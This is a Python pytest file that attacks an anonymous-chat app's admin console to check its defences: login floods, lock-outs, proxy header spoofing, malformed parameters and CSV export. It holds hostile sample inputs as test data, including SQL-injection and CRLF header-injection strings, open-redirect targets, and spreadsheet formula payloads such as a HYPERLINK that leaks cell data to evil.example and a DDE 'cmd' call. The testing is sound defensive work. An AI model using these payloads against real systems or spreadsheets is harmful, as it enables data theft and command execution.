"""The admin console as an attacker drives it: login floods, lock-outs aimed at an admin, a reverse
proxy's headers, hostile URL parameters and formula injection in the CSV export.

Every request goes through a real server over real HTTP; addresses are told apart the way a proxy
tells them (`server.xheaders: true` and X-Forwarded-For / X-Real-IP).
"""

import asyncio
import csv
import io
import re
import time
from urllib.parse import quote

import pytest
import tornado.httpclient
import tornado.websocket
from test_admin import ACCOUNTS, PASSWORD, Admin, audit_events, console, packs  # noqa: F401 (fixtures)

from anonchat.admin.auth import HashingSlots
from anonchat.passwords import hash_password
from anonchat.testing import group_of, rows, session_of


class From(Admin):
    """An admin client the server sees at `ip`, as a reverse proxy reports it."""

    def __init__(self, url, ip=None, real_ip=None, forwarded_for=None, proto=None):
        super().__init__(url)
        # Its own connections: the shared client would queue it behind everyone else's requests.
        self.http = tornado.httpclient.AsyncHTTPClient(force_instance=True)
        self.extra = {}
        if ip or forwarded_for:
            self.extra["X-Forwarded-For"] = forwarded_for or ip
        if real_ip:
            self.extra["X-Real-IP"] = real_ip
        if proto:
            self.extra["X-Forwarded-Proto"] = proto

    async def request(self, method, path, body=None, headers=None):
        return await super().request(method, path, body, {**self.extra, **(headers or {})})


PROXIED = {"xheaders": True}


async def logins(app, **match):
    events = await audit_events(app)
    return [(e, actor, d) for e, actor, _, d in events if e.startswith("admin.login")
            and all(d.get(k) == v for k, v in match.items())]


# --- 1. a flood of logins ------------------------------------------------------------------------

@pytest.mark.gen_test(timeout=120)
async def test_a_flood_of_junk_logins_does_not_delay_the_real_admin(console):
    # A hash that takes tens of milliseconds, so sixty in a row take seconds.
    slow = {"root": hash_password(PASSWORD, iterations=200_000)}
    app, url, _ = await console(logged_in=False, server=PROXIED, admin={"accounts": slow})
    junk = [From(url, f"203.0.113.{i % 6 + 1}") for i in range(60)]
    await asyncio.gather(*(j.get("/admin/login") for j in junk))  # each one's XSRF cookie
    real = From(url, "198.51.100.7")
    await real.get("/admin/login")
    # What one login costs on this machine right now, with nothing else hashing: the yardstick,
    # since a slow spell slows every hash alike.
    alone = From(url, "198.51.100.8")
    await alone.get("/admin/login")
    started = time.monotonic()
    assert (await alone.login()).code == 302
    one_login = time.monotonic() - started

    # Half guess the real admin's password, half try names that do not exist.
    flood = asyncio.gather(*(j.login(name="root" if i % 2 else f"admin{i}", password=f"guess {i}")
                             for i, j in enumerate(junk)))
    await asyncio.sleep(0.2)  # the flood has arrived: its attempts are hashing or waiting
    started = time.monotonic()
    response = await real.login()
    took = time.monotonic() - started
    # Hashed on the event loop, or queued behind the flood's thirty hashes, it would take thirty
    # logins' time (3-4 s here). The bound leaves room for a slow spell on a loaded machine (1.04 s
    # against 0.12 s alone was seen in CI with other work running); which attempt gets the next
    # slot is tested without clocks below (HashingSlots).
    assert took < max(2.0, 8 * one_login), f"the real login took {took:.2f} s, one login alone {one_login:.2f} s"
    assert response.code == 302 and response.headers["Location"] == "/admin"

    answers = await flood
    refused = [a for a in answers if a.code == 429]
    assert refused and all(int(a.headers["Retry-After"]) >= 1 for a in refused)
    # Each of the six addresses had its password checked at most max_failures (5) times.
    assert len(await logins(app, reason="bad credentials")) <= 6 * 5


@pytest.mark.gen_test(timeout=30)
async def test_hashing_slots_go_to_clean_addresses_first_and_survive_cancelled_waiters():
    slots, order = HashingSlots(1), []
    release = asyncio.Event()

    async def login(who, priority):
        async with slots.held(priority):
            order.append(who)
            if who == "first":
                await release.wait()

    first = asyncio.ensure_future(login("first", 0))
    await asyncio.sleep(0)
    waiters = [asyncio.ensure_future(login(f"failing{i}", 1)) for i in range(3)]
    gone = asyncio.ensure_future(login("gave up", 0))
    owner = asyncio.ensure_future(login("owner", 0))
    await asyncio.sleep(0)
    gone.cancel()  # a client that hung up while waiting takes no slot
    release.set()
    await asyncio.gather(first, owner, *waiters)
    assert order == ["first", "owner", "failing0", "failing1", "failing2"]
    assert slots.free == 1 and not slots.waiting


@pytest.mark.gen_test(timeout=60)
async def test_an_address_over_its_rate_is_answered_429_before_any_hashing(console):
    app, url, _ = await console(logged_in=False, server=PROXIED,
                                admin={"accounts": {"root": hash_password(PASSWORD)}})  # production cost
    eager = From(url, "203.0.113.50")
    started = time.monotonic()
    for _ in range(10):  # the burst: even right passwords count
        assert (await eager.login()).code == 302
    per_hash = (time.monotonic() - started) / 10
    started = time.monotonic()
    refused = await eager.login()
    assert refused.code == 429 and b"Too many login attempts" in refused.body
    assert 1 <= int(refused.headers["Retry-After"]) <= 10
    assert time.monotonic() - started < per_hash / 2  # no password was hashed for it
    assert (await From(url, "203.0.113.51").login()).code == 302  # another address is not limited


# --- 2. a lock-out aimed at an admin -------------------------------------------------------------

@pytest.mark.gen_test(timeout=60)
async def test_a_lockout_from_one_address_does_not_keep_the_admin_out(console):
    app, url, _ = await console(logged_in=False, server=PROXIED,
                                admin={"accounts": ACCOUNTS, "max_failures": 3, "lockout_s": 60})
    attacker = From(url, "203.0.113.9")
    for i in range(3):
        assert (await attacker.login(password=f"guess {i}")).code == 403
    locked = await attacker.login()  # the right password, from the locked address
    assert locked.code == 429 and b"Too many failed attempts" in locked.body
    assert 50 <= int(locked.headers["Retry-After"]) <= 61
    assert (await attacker.login(name="ops", password="other")).code == 429  # every name, from there

    owner = From(url, "198.51.100.7")
    started = time.monotonic()
    assert (await owner.login()).code == 302
    assert time.monotonic() - started < 1.0  # a clean address is not slowed down
    assert (await From(url, real_ip="192.0.2.44").login()).code == 302  # X-Real-IP tells addresses apart too

    # The owner mistypes after the attack: slowed down a little (capped), never locked out.
    typo = From(url, "198.51.100.8")
    assert (await typo.login(password="typo")).code == 403
    started = time.monotonic()
    assert (await typo.login()).code == 302
    assert time.monotonic() - started < 3.0

    assert [d["ip"] for _, _, d in await logins(app, reason="locked")] == ["203.0.113.9"]
    assert {d["ip"] for _, _, d in await logins(app, reason="bad credentials")} == {"203.0.113.9", "198.51.100.8"}


# --- 3. behind a reverse proxy -------------------------------------------------------------------

def cookie_named(response, name):
    return next(h for h in response.headers.get_list("Set-Cookie") if h.startswith(name + "="))


@pytest.mark.gen_test(timeout=60)
async def test_behind_a_proxy_the_audit_log_has_the_client_and_cookies_are_secure(console):
    app, url, _ = await console(logged_in=False, server=PROXIED)
    # The client wrote the first hop itself; the proxy appended the address it really came from.
    via_proxy = From(url, forwarded_for="127.0.0.1, 198.51.100.23", real_ip="10.9.9.9", proto="https")
    page = await via_proxy.get("/admin/login")
    assert "Secure" in cookie_named(page, "_xsrf")
    ok = await via_proxy.login()
    assert ok.code == 302
    cookie = cookie_named(ok, "anonchat_admin")
    assert "Secure" in cookie and "HttpOnly" in cookie and "SameSite=Strict" in cookie
    assert (await From(url, real_ip="192.0.2.7").login(password="wrong")).code == 403
    plain = From(url, "198.51.100.24", proto="http")
    assert "Secure" not in cookie_named(await plain.login(), "anonchat_admin")
    assert [(e, d["ip"]) for e, _, d in await logins(app)] == [
        ("admin.login", "198.51.100.23"), ("admin.login_failed", "192.0.2.7"), ("admin.login", "198.51.100.24")]

    # Without `server.xheaders` nothing in the headers is believed: anyone could send them.
    direct, direct_url, _ = await console(logged_in=False)
    spoofer = From(direct_url, "198.51.100.23", real_ip="192.0.2.7", proto="https")
    assert "Secure" not in cookie_named(await spoofer.login(), "anonchat_admin")
    assert (await logins(direct))[-1][2]["ip"] == "127.0.0.1"  # (both servers share the database)


# --- 4. hostile parameters -----------------------------------------------------------------------

# Already percent-encoded, as they arrive on the wire: superscript two, Arabic-Indic three, numbers
# PostgreSQL's bigint cannot hold, signs, floats, hex, line breaks, bytes that are not UTF-8.
BAD_IDS = ["%C2%B2", "%D9%A3", "-1", "0", "1.5", "1e3", "0x1f", "99999999999999999999",
           "9223372036854775808", "1%0D%0ASet-Cookie:%20a=b", "%FF%FE", "%C0%AF"]
NOT_UTF8 = ["%FF", "%FF%FE", "%C0%AF", "%ED%A0%80", "a%80b"]
# Text filters take any text: these must be shown (escaped), never crash a page.
ODD_TEXT = ["%0D%0A", "%00", "%27%3B%20DROP%20TABLE%20audit_log%3B--", "%E2%80%AE", "%F0%9F%99%82",
            "%5C%25_", "x" * 4000]
BAD_NEXT = ["/admin%0D%0ASet-Cookie:%20a=b", "/admin%0A", "/admin/%09x", "/admin%7F", "/admin/%C3%A9",
            "/admin%00x", "%FF"]
TEXT_PARAMS = {"/admin/flags": ["category", "pack", "user"], "/admin/users": ["q"], "/admin/bans": ["session_id"],
               "/admin/audit": ["event", "actor", "subject"], "/admin/audit/export.csv": ["event", "actor", "subject"],
               "/admin/audit/export.jsonl": ["event", "actor", "subject"]}


def assert_error_page(response, where):
    assert response.code == 400, (where, response.code)
    assert response.headers["Content-Type"].startswith("text/html"), where
    assert b'class="error"' in response.body and b"cannot" in response.body, where


async def post_raw(client, path, query):
    if "_xsrf" not in client.cookies:
        await client.get("/admin/login")
    return await client.request("POST", path, body=f"_xsrf={client.cookies['_xsrf']}&{query}")


@pytest.mark.gen_test(timeout=120)
async def test_hostile_parameters_get_a_400_page_never_a_500(console):
    app, url, admin = await console()
    (alice, bob) = await group_of(url, 2)
    sid = session_of(app, alice)
    for value in BAD_IDS:
        for path in ("/admin/flags", "/admin/audit"):
            assert_error_page(await admin.get(f"{path}?before={value}"), f"{path} before={value}")
        if "%" not in value and "." not in value:  # a path segment: the route takes ASCII digits only
            response = await post_raw(admin, f"/admin/flags/{value}/dismiss", "next=/admin/flags")
            assert response.code in (400, 404), value
    for value in NOT_UTF8:
        for path, names in TEXT_PARAMS.items():
            for name in names:
                assert_error_page(await admin.get(f"{path}?{name}={value}"), f"{path} {name}={value}")
        for path in ("/admin/ban", "/admin/unban"):
            assert_error_page(await post_raw(admin, path, f"session_id={value}&reason=x&duration=600"), path)
    for value in ODD_TEXT:
        for path, names in TEXT_PARAMS.items():
            for name in names:
                assert (await admin.get(f"{path}?{name}={value}")).code == 200, (path, name, value)
    for value in BAD_NEXT:
        assert_error_page(await admin.get(f"/admin/login?next={value}"), f"login form next={value}")
        assert_error_page(await post_raw(Admin(url), "/admin/login",
                                         f"name=root&password={quote(PASSWORD)}&next={value}"), f"login next={value}")
        assert_error_page(await post_raw(admin, "/admin/ban", f"session_id={sid}&reason=r&duration=600&next={value}"),
                          f"ban next={value}")
    # Nothing was banned by a refused form, and the console still works.
    assert rows(app.config.database.url, "SELECT count(*) FROM banned_users") == [(0,)]
    assert (await admin.get("/admin/flags?before=1")).code == 200
    assert (await admin.get("/admin/audit?before=9223372036854775807")).code == 200


@pytest.mark.gen_test(timeout=60)
async def test_a_foreign_next_still_goes_to_the_dashboard(console):
    app, url, admin = await console(logged_in=False)
    for value in ("//evil.example/", "https://evil.example/", "/administrator", "/admin\\..\\x", "javascript:x"):
        response = await admin.post("/admin/login", name="root", password=PASSWORD, next=value)
        assert response.code == 302 and response.headers["Location"] == "/admin", value


# --- 5. formulas in the CSV export ---------------------------------------------------------------

INJECTIONS = ['x;=HYPERLINK("http://evil.example/?"&A1,"open")', "a\t=1+2", "=cmd|' /C calc'!A0", "+1", "-1+2",
              "@SUM(1)", "a,=1", 'a;"=1+1"', "a; -2", "a\r=3", "a\n@x"]
SEPARATORS = re.compile(r"[,;\t\r\n]")


@pytest.mark.gen_test(timeout=60)
async def test_csv_export_neutralises_formulas_after_any_separator(console):
    app, url, _ = await console(logged_in=False, server=PROXIED)
    for i, name in enumerate(INJECTIONS):  # anyone can type a name: it becomes the `actor` of a failed login
        assert (await From(url, f"203.0.113.{i + 1}").login(name=name, password="x")).code == 403
    admin = Admin(url)
    assert (await admin.login()).code == 302
    (alice, bob) = await group_of(url, 2)
    await admin.post("/admin/ban", session_id=session_of(app, alice), reason='ok;=HYPERLINK("x")', duration="600")
    await app.audit.flush()

    exported = await admin.get("/admin/audit/export.csv")
    assert exported.code == 200
    table = list(csv.reader(io.StringIO(exported.body.decode(), newline="")))
    for row in table[1:]:
        for cell in row:
            assert cell[:1] not in ("\t", "\r"), cell
            for part in SEPARATORS.split(cell):  # however a spreadsheet splits the cell
                assert part.lstrip(' "')[:1] not in ("=", "+", "-", "@"), (cell, part)
    actors = [row[3] for row in table[1:]]
    assert "x;'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")" in actors  # still readable
    assert any("HYPERLINK" in row[5] for row in table[1:])  # the ban reason, in `details`


@pytest.mark.gen_test(timeout=60)
async def test_secure_cookies_makes_every_cookie_secure_over_plain_http(console):
    # TLS ends at a proxy that sends no X-Forwarded-Proto: anonchat sees http, the browser https.
    app, url, _ = await console(logged_in=False, server={"secure_cookies": True})
    client = tornado.httpclient.AsyncHTTPClient()
    chat_page = await client.fetch(url + "/")
    assert "Secure" in cookie_named(chat_page, "anonchat_session")
    assert "Secure" in cookie_named(await client.fetch(url + "/admin/login"), "_xsrf")
    assert "Secure" in cookie_named(await From(url, "198.51.100.30").login(), "anonchat_admin")
    # A client that opens the WebSocket first gets its session cookie on the handshake.
    socket = await tornado.websocket.websocket_connect(
        tornado.httpclient.HTTPRequest(url.replace("http", "ws") + "/ws", headers={"Origin": url}))
    try:
        assert "Secure" in cookie_named(socket, "anonchat_session")
    finally:
        socket.close()
    # The default leaves plain http alone (make run on localhost must keep its cookies).
    _, plain_url, _ = await console(logged_in=False)
    assert "Secure" not in cookie_named(await client.fetch(plain_url + "/"), "anonchat_session")
